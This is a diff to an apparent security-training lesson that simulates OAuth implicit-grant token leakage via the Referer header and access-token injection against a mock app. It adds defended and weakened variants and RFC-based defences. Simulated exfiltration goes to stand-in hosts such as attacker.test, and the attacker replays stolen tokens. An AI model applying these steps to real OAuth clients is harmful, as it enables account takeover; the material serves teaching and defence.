@@ -7,19 +7,24 @@ from playground import Lesson
 PIXEL = "https://attacker.test/pixel.gif"
 ANALYTICS_SDK = "https://sdk.attacker.test/collect"
 ALICE = "u-1001"
+REFUSAL = (
+    "Legacy Gallery takes no access token as proof of who you are: it says what "
+    "its holder may do at the API, not who is at the keyboard. Sign in with "
+    "OpenID Connect."
+)
 
 lesson = Lesson(
     "Implicit grant: token leakage and token injection",
     level="intermediate",
     kind="attack",
-    weakness="client.accept_any_token",
+    weakness=("client.unsafe_referrer_policy", "client.accept_any_token"),
     summary=(
-        "Part one needs no weakness: Legacy Gallery's access token arrives in "
-        "the URL, stays in the browser's history, and once it is in the query "
-        "a third-party image carries it to Mallory in the Referer header. "
-        "That is why the implicit grant is deprecated. Part two is the "
-        "weakness: Legacy Gallery signs in whoever hands it a token of "
-        "Alice's, even one issued to another app."
+        "Legacy Gallery's access token arrives in the URL and stays in the "
+        "browser's history, which is why the implicit grant is deprecated. "
+        "Part one: the app copies the token into the query, and its pages "
+        "keep the old, lax referrer policy, so a third-party image carries "
+        "the token to Mallory in the Referer header. Part two: Legacy Gallery "
+        "signs in whoever hands it an access token of Alice's."
     ),
     defence="""
 - **Do not use the implicit grant** (RFC 9700 2.1.2): the token travels in
@@ -27,28 +32,23 @@ lesson = Lesson(
   once in a query, through `Referer` (RFC 9700 4.2). Use the authorization
   code grant with PKCE: only a one-time code crosses the browser, and it is
   worthless without the code verifier.
-- **Never put tokens in URLs** (RFC 6750 5.3, RFC 9700 4.3.2): not in
-  the query, not by "moving the fragment" for the server's sake. Set
-  `Referrer-Policy: no-referrer` on pages that handle credentials
-  (RFC 9700 4.2.4).
-- **Check who a token was issued to before trusting it for sign-in**
-  (access token injection, RFC 9700 4.6; RFC 6749 10.16): an access token
-  says what its holder may do at an API, not who is in front of the app.
-  The defended run checks the token's `client_id` (RFC 9068 2.2) against
-  the app's own and refuses with 401.
+- **Never put tokens in URLs** (RFC 6750 5.3, RFC 9700 4.3.2): not in the
+  query, not by "moving the fragment" for the server's sake. Send
+  `Referrer-Policy: no-referrer` on pages that handle credentials (RFC 9700
+  4.2.4); the defended run does, and the image request carries no `Referer`
+  at all. (Even the browsers' default, `strict-origin-when-cross-origin`,
+  would send only the origin to another site.)
+- **Do not take an access token as proof of sign-in** (access token
+  injection, RFC 9700 4.6): it says what its holder may do at an API, not
+  who is at the keyboard, and "there is no way to detect such an injection
+  attack in pure-OAuth flows" (4.6.1); a client may not even inspect it
+  (RFC 9068 6). The defended Legacy Gallery refuses every access token
+  offered as a sign-in, its own included.
 - **For sign-in, use OpenID Connect**: the ID token's `aud` is the client
-  itself, and the client MUST check it (OIDC Core 3.1.3.7).
+  itself and its `nonce` belongs to this browser's request, and the client
+  MUST check both (OIDC Core 3.1.3.7; lesson 08, attacks 15a and 15b).
 """,
 )
-
-
-def load_third_party_image(browser):
-    """The page's <img src=".../pixel.gif">: the browser fetches it and says
-    which page it is on in Referer, never with the fragment (RFC 9110
-    10.1.3). Like a browser under `Referrer-Policy: unsafe-url` (the worst
-    case), it sends the full address otherwise."""
-    referer = browser.address.split("#", 1)[0]
-    return browser.http.get(PIXEL, headers={"Referer": referer})
 
 
 @lesson.step("Legacy Gallery gets Alice's token in the fragment")
@@ -86,9 +86,15 @@ def history(run):
     the whole URL, `#access_token=...` included, and so does the
     **history** (RFC 9700 4.3.2). Whoever uses this browser next, or reads
     its synced history, can copy the token; so can any script on the page.
+
+    Look at the answer's `Referrer-Policy` header: the policy for every
+    request this page makes. **Weakness on** (`client.unsafe_referrer_policy`):
+    `no-referrer-when-downgrade`, the browsers' default before 2020, kept so
+    the analytics see full page addresses. **Defended**: `no-referrer`.
     """
     run.browser.follow_redirect()
-    callback = run.all_exchanges[-1]
+    callback = run.last_exchange
+    policy = callback.response.header("Referrer-Policy")
     run.check(
         "the GET /legacy/callback request carries no token",
         "access_token" not in callback.request.url,
@@ -97,66 +103,78 @@ def history(run):
         "the browser's history holds the access token",
         any(run.gallery_token in url for url in run.browser.history),
     )
+    expected = "no-referrer-when-downgrade" if run.weakness_on else "no-referrer"
+    run.check(f"the page's Referrer-Policy is {expected}", policy == expected, policy)
 
 
 @lesson.step("A third-party image: the fragment stays home")
 def referer_without_fragment(run):
     """
-    The callback page shows an image from another site, an ad or analytics
-    pixel at `attacker.test`. Read the request: `GET /pixel.gif`
-    with a `Referer` header naming the page it is on.
+    The callback page shows an image from another site, an analytics pixel
+    at `attacker.test`. Read the request: `GET /pixel.gif`, and its
+    `Referer`.
 
-    Browsers never put the fragment in `Referer` (RFC 9110 10.1.3). Today's
-    default policy, `strict-origin-when-cross-origin`, would even send only
-    `https://photoprint.test/`; our browser sends the full address,
-    as under `Referrer-Policy: unsafe-url` or in older browsers. Even in
-    that worst case, the token in the fragment does not reach Mallory.
+    **Weakness on**: the lax policy sends the page's full address; but
+    browsers never put the fragment in `Referer` (RFC 9110 10.1.3), so the
+    token still does not reach Mallory. **Defended**: no `Referer` at all.
     """
-    response = load_third_party_image(run.browser)
-    referer = run.last_request.header("Referer") or ""
-    run.check("the image request answers 204", response.status_code == 204)
-    run.check(
-        "Referer names the callback page, without the fragment",
-        referer == f"{run.client_url}/legacy/callback",
-        referer,
-    )
+    run.browser.load_image(PIXEL)
+    referer = run.last_request.header("Referer")
+    if run.weakness_on:
+        run.check(
+            "Referer names the callback page, without the fragment",
+            referer == f"{run.client_url}/legacy/callback",
+            str(referer),
+        )
+    else:
+        run.check("the image request carries no Referer", referer is None)
     run.check("Mallory's site received no secret", not run.attacker.secrets_received())
 
 
-@lesson.step("The token moved into the query leaks via Referer")
+@lesson.step("The app moves the token into the query")
 def referer_with_query(run):
     """
-    Legacy Gallery's script wants its server to see the token, so it
-    reloads the page with the fragment moved into the **query**:
+    Legacy Gallery's script wants its server to see the token, so it sends
+    the browser to the same page with the fragment moved into the **query**:
     `/legacy/callback?access_token=...`. (Asking for `response_mode=query`
     with `response_type=token` would be the same mistake.) Read the first
-    request: the token now crosses the wire to the client's server, into
-    its access logs.
+    request: the token now crosses the wire to the client's server, into its
+    access logs, whatever the referrer policy.
 
-    Then the page loads the same image, and this time `Referer` carries the
-    query: Mallory's site receives Alice's token. She calls the photos API
-    with it: **200**, Alice's profile. No weakness is on; this is the
-    implicit grant plus one ordinary mistake (RFC 9700 4.2, RFC 6750 5.3).
+    Then the page loads the same image. **Weakness on**: `Referer` carries
+    the query, so Mallory's site receives Alice's token; she calls the photos
+    API with it: **200**, Alice's profile. Two ordinary mistakes made this
+    (RFC 9700 4.2, RFC 6750 5.3): the token in a URL, and a lax referrer
+    policy. **Defended**: no `Referer`; Mallory gets nothing.
     """
     fragment = urlsplit(run.browser.address).fragment
-    run.browser.open(f"{run.client_url}/legacy/callback?{fragment}")
-    load_third_party_image(run.browser)
-    referer_loot = [item for item in run.attacker.site.loot if item.via == "referer"]
+    run.browser.click(f"{run.client_url}/legacy/callback?{fragment}")
+    run.browser.load_image(PIXEL)
     stolen = run.attacker.loot("access_token")
-    profile = run.attacker.call_api("/api/user", stolen[-1] if stolen else "")
     run.check(
         "the request to the client now carries the token in its URL",
         run.gallery_token in run.exchanges[0].request.url,
     )
-    run.check(
-        "Mallory's site got Alice's token from the Referer header",
-        stolen == [run.gallery_token]
-        and any(item.name == "access_token" for item in referer_loot),
-    )
-    run.check(
-        "with it, Mallory reads Alice's profile (200)",
-        profile.status_code == 200 and profile.json().get("id") == ALICE,
-    )
+    if run.weakness_on:
+        referer_loot = [
+            item for item in run.attacker.site.loot if item.via == "referer"
+        ]
+        profile = run.attacker.call_api("/api/user", stolen[-1] if stolen else "")
+        run.check(
+            "Mallory's site got Alice's token from the Referer header",
+            stolen == [run.gallery_token]
+            and any(item.name == "access_token" for item in referer_loot),
+        )
+        run.check(
+            "with it, Mallory reads Alice's profile (200)",
+            profile.status_code == 200 and profile.json().get("id") == ALICE,
+        )
+    else:
+        run.check(
+            "the image request carries no Referer",
+            run.last_request.header("Referer") is None,
+        )
+        run.check("Mallory's site received no token", stolen == [])
 
 
 @lesson.step("Mallory gets a token of Alice's from another app")
@@ -169,9 +187,9 @@ def token_from_another_app(run):
     Read the last request: from the **client** to `sdk.attacker.test`, with
     `access_token=...` in the body.
 
-    The token is Alice's (`sub: u-1001`) but was issued to
-    `photo-uploader-native`, not to Legacy Gallery: look at `client_id` in
-    the JWT panel.
+    The token is Alice's (`sub: u-1001`), issued to `photo-uploader-native`.
+    (Had part one leaked Legacy Gallery's own token, it would serve Mallory
+    just as well: nothing in an access token says who holds it.)
     """
     app = run.native_app
     run.browser.open(app.authorization_url("basic", pkce_method="S256"))
@@ -196,22 +214,21 @@ def inject(run):
     """
     Legacy Gallery's page script posts the token from the fragment to
     `POST /legacy/session`, and the server signs in "whoever the token
-    belongs to". Mallory posts the same form herself, with Alice's
-    Photo Uploader token (the request comes from the **Attacker** in the
+    belongs to". Mallory posts the same form herself, with Alice's Photo
+    Uploader token (the request comes from the **Attacker** in the
     transcript).
 
     **Weakness on** (`client.accept_any_token`): the server asks the photos
     API who the token is for, gets Alice, and answers **200** *"Signed in as
     Alice Liddell."*, with a session cookie for Mallory. A token good at the
-    API was taken as proof of who is at the keyboard (RFC 6749 10.16).
-    Mallory could already call the API with this token; what the injection
-    adds is Alice's **account at Legacy Gallery**, with everything the app
-    keeps there and lets its users do.
+    API was taken as proof of who is at the keyboard (RFC 9700 4.6, RFC 6749
+    10.16). Mallory could already call the API with this token; what the
+    injection adds is Alice's **account at Legacy Gallery**.
 
-    **Defended**: **401** *"This token was issued to photo-uploader-native, not
-    to Legacy Gallery."* The server verified the token against the
-    authorization server's keys (a `GET /jwks.json` of its own) and checked
-    `client_id`: this app's check, not the API's.
+    **Defended**: **401**: Legacy Gallery takes no access token as proof of
+    sign-in, whoever it was issued to. It could not tell an injected token
+    from its own anyway (RFC 9700 4.6.1), and may not inspect one (RFC 9068
+    6); signing in is what OpenID Connect's ID token is for.
     """
     response = run.attacker.http.post(
         f"{run.client_url}/legacy/session",
@@ -231,12 +248,9 @@ def inject(run):
             ),
         )
     else:
-        refusal = (
-            "This token was issued to photo-uploader-native, not to Legacy Gallery."
-        )
         run.check("Legacy Gallery answers 401", response.status_code == 401)
-        run.check(f'the page says "{refusal}"', refusal in response.text)
+        run.check("the page says why", REFUSAL in response.text)
         run.check(
-            "the client's check refused it: token_not_for_this_client",
-            run.web_client.last_error == "token_not_for_this_client",
+            "no session cookie for Mallory",
+            response.headers.get("Set-Cookie") is None,
         )
